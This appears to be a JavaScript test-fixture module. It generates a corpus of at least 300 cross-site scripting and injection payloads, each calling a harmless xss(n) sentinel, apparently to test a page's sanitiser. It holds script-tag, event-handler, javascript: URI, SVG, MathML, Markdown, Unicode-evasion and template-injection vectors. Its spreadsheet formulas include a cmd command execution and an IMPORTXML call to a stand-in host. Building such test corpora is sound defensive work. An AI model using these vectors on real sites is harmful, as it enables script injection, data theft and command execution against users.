// What hostile people type: three hundred ways to make a page run what they say. Each calls xss(n), which no page of ours does.

const call = (n) => `xss(${n})`;

/** Grouped, so that a new trick goes beside its like. Each takes the number that it calls with. */
const TAGS = [
  (c) => `<script>${c}</script>`,
  (c) => `<ScRiPt>${c}</sCrIpT>`,
  (c) => `<script src="data:text/javascript,${c}"></script>`,
  (c) => `</textarea><script>${c}</script>`,
  (c) => `</title><script>${c}</script>`,
  (c) => `"><script>${c}</script>`,
  (c) => `'><script>${c}</script>`,
  (c) => `--><script>${c}</script>`,
  (c) => `]]><script>${c}</script>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `<script\t>${c}</script\n>`,
  (c) => `<iframe src="javascript:${c}"></iframe>`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<base href="javascript:${c}//">`,
  (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
  (c) => `<link rel="stylesheet" href="javascript:${c}">`,
  (c) => `<style>@import "javascript:${c}"; *{background:url(javascript:${c})}</style>`,
  (c) => `<form action="javascript:${c}"><button autofocus>go</button></form>`,
  (c) => `<button formaction="javascript:${c}">press</button>`,
  (c) => `<isindex action="javascript:${c}" type=submit>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<template><script>${c}</script></template>`,
  (c) => `<plaintext onmouseover=${c}>`,
  (c) => `<xmp><script>${c}</script></xmp>`,
  (c) => `<frameset onload=${c}><frame src="javascript:${c}"></frameset>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<textarea autofocus onfocus=${c}></textarea>`,
  (c) => `<select autofocus onfocus=${c}><option>x</select>`,
  (c) => `<keygen autofocus onfocus=${c}>`,
  (c) => `<body onload=${c}>`,
  (c) => `<html onmouseenter=${c}>`,
  (c) => `<portal src="javascript:${c}"></portal>`,
];

const EVENTS = "load error click dblclick mouseover mouseenter mousemove focus focusin blur toggle animationstart animationend transitionend pointerover pointerdown wheel scroll keydown input change submit reset copy paste drag drop beforetoggle contextmenu auxclick begin end canplay loadstart durationchange".split(" ");
const HOSTS = [
  (on) => `<img src=x ${on}>`,
  (on) => `<details open ${on}><summary>x</summary></details>`,
  (on) => `<video src=x ${on}><source></video>`,
  (on) => `<div tabindex=0 autofocus style="animation:a 1s" ${on}>x</div>`,
];
const SPELLINGS = [(e, c) => `on${e}=${c}`, (e, c) => `ON${e.toUpperCase()}="${c}"`, (e, c) => `on${e}\n=\t'${c}'`, (e, c) => `/on${e}=${c}/`];
const HANDLERS = EVENTS.flatMap((event, i) => [0, 1, 2].map((j) => (c) => HOSTS[(i + j) % HOSTS.length](SPELLINGS[(i + j) % SPELLINGS.length](event, c))));

const ATTRIBUTES = [
  (c) => `" onmouseover="${c}`,
  (c) => `' onmouseover='${c}`,
  (c) => `" autofocus onfocus="${c}" x="`,
  (c) => `x" onload="${c}" onerror="${c}`,
  (c) => `\` onmouseover=${c} \``,
  (c) => `javascript:${c}`,
  (c) => `JaVaScRiPt:${c}`,
  (c) => `java\tscript:${c}`,
  (c) => `java\nscript:${c}`,
  (c) => `javascript&colon;${c}`,
  (c) => `&#106;avascript:${c}`,
  (c) => `&#x6A;avascript&#x3A;${c}`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `data:text/html;base64,${Buffer.from(`<script>${c}</script>`).toString("base64")}`,
  (c) => `vbscript:${c}`,
  (c) => `//evil.example/%0d%0aX:${c}`,
  (c) => `\\" onclick=${c} \\"`,
];

const SVG = [
  (c) => `<svg onload=${c}>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><script xlink:href="data:,${c}"/></svg>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><set onbegin=${c} attributeName=x>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text y=20>click</text></a></svg>`,
  (c) => `<svg><foreignObject><img src=x onerror=${c}></foreignObject></svg>`,
  (c) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${c}</script></svg>#x"/></svg>`,
  (c) => `<svg><style><img src=x onerror=${c}></style></svg>`,
  (c) => `<svg><title><img src=x onerror=${c}></title></svg>`,
  (c) => `<svg><desc></desc><image href=x onerror=${c} /></svg>`,
  (c) => `<svg/onload=${c}//`,
  (c) => `<image src=x onerror=${c}>`,
];

const MATHML = [
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}></style></mglyph></table></mtext></math>`,
  (c) => `<math href="javascript:${c}">click</math>`,
  (c) => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${c}">click</maction></math>`,
  (c) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${c}></annotation-xml></math>`,
  (c) => `<math><mi xlink:href="data:text/html,<script>${c}</script>">x</mi></math>`,
];

const MARKDOWN = [
  (c) => `[click](javascript:${c})`,
  (c) => `[click](JAVASCRIPT:${c})`,
  (c) => `[click](java\\script:${c})`,
  (c) => `[click](&#106;avascript:${c})`,
  (c) => `[click](%6Aavascript:${c})`,
  (c) => `[click](data:text/html,<script>${c}</script>)`,
  (c) => `[click](<javascript:${c}>)`,
  (c) => `[click](javascript:${c} "title")`,
  (c) => `![picture](javascript:${c})`,
  (c) => `![picture](x "onerror=${c}")`,
  (c) => `![picture](x" onerror="${c})`,
  (c) => `<javascript:${c}>`,
  (c) => `[click][ref]\n\n[ref]: javascript:${c}`,
  (c) => `[click]: javascript:${c}\n\n[click]`,
  (c) => `[x](https://a.example/" onmouseover="${c})`,
  (c) => `[x](https://a.example/ "t" onmouseover="${c}")`,
  (c) => `\`<script>${c}</script>\``,
  (c) => `    <script>${c}</script>`,
  (c) => `\`\`\`html\n<script>${c}</script>\n\`\`\``,
  (c) => `<!-- --!><img src=x onerror=${c}> -->`,
  (c) => `<![CDATA[<img src=x onerror=${c}>]]>`,
  (c) => `<?php ${c} ?><img src=x onerror=${c}>`,
  (c) => `<a href="javascript:${c}">*emphasis*</a>`,
  (c) => `> <img src=x onerror=${c}>\n>\n> 1. <svg onload=${c}>`,
  (c) => `*<img src=x onerror=${c}>* _<svg/onload=${c}>_`,
];

const UNICODE = [
  (c) => `\u202e<script>${c}</script>\u202c`,
  (c) => `＜script＞${c}＜/script＞`,
  (c) => `‹script›${c}‹/script›`,
  (c) => `<\u200bscript>${c}</script>`,
  (c) => `<script\u2028>${c}</script>`,
  (c) => `<ſcript>${c}</ſcript>`,
  (c) => `<ımg src=x onerror=${c}>`,
  (c) => `\ufeff<script>${c}</script>`,
  (c) => `<img src=x onerror\u00a0=${c}>`,
  (c) => `%3Cscript%3E${c}%3C/script%3E`,
  (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  (c) => `\\x3cscript\\x3e${c}\\x3c/script\\x3e`,
  (c) => `&lt;script&gt;${c}&lt;/script&gt;`,
  (c) => `&amp;lt;img src=x onerror=${c}&amp;gt;`,
  (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
  (c) => `𝕏<img src=x onerror=${c}>😀`,
  (c) => `a${"\u0301".repeat(40)}<svg onload=${c}>`,
  (c) => `\u2066<img src=x onerror=${c}>\u2069`,
];

const TEMPLATES = [
  (c) => `\${${c}}`,
  (c) => `{{${c}}}`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `#{${c}}`,
  (c) => `<%= ${c} %>`,
  (c) => `$unsafe{${c}}`,
  (c) => `@if(true)<script>${c}</script>@endif`,
  (c) => `!{var x = ${c};}`,
  (c) => `@template.tags.layout(content = @\`<script>${c}</script>\`)`,
  (c) => `{0}<img src=x onerror=${c}>{1, plural, other {x}}`,
  (c) => `'{'<img src=x onerror=${c}>'}'`,
  (c) => `","html":"<img src=x onerror=${c}>`,
  (c) => `"}</script><script>${c}</script>`,
  (c) => `*/</style><script>${c}</script>/*`,
  (c) => `';${c};'`,
  (c) => `";${c};"`,
  (c) => `\`;${c};\``,
  (c) => `__proto__[onload]=${c}`,
  (c) => `<live-region data-src="javascript:${c}" id="x">x</live-region>`,
  (c) => `<draft-form><img src=x onerror=${c}></draft-form>`,
  (c) => `<template shadowrootmode="open"><script>${c}</script></template>`,
];

const FORMULAS = [
  (c) => `=HYPERLINK("javascript:${c}","click")`,
  (c) => `=cmd|'/c ${c}'!A0`,
  (c) => `+${c}`,
  (c) => `-${c}`,
  (c) => `@SUM(1+1)*${c}`,
  (c) => `\t=${c}`,
  (c) => `＝${c}`,
  (c) => `=1+1";=${c}`,
  (c) => `=IMPORTXML("https://evil.example/?${c}","//a")`,
  (c) => `%0A=${c}`,
];

const KINDS = [...TAGS, ...HANDLERS, ...ATTRIBUTES, ...SVG, ...MATHML, ...MARKDOWN, ...UNICODE, ...TEMPLATES, ...FORMULAS];

/** At least three hundred: each kind once, then mixed two by two until there are enough. */
export function payloads(count = 300) {
  const made = KINDS.map((kind, n) => kind(call(n)));
  for (let n = made.length, step = 1; n < count; n++, step += 7) {
    made.push(`${KINDS[n % KINDS.length](call(n))} ${KINDS[(n * 13 + step) % KINDS.length](call(n))}`);
  }
  return made;
}
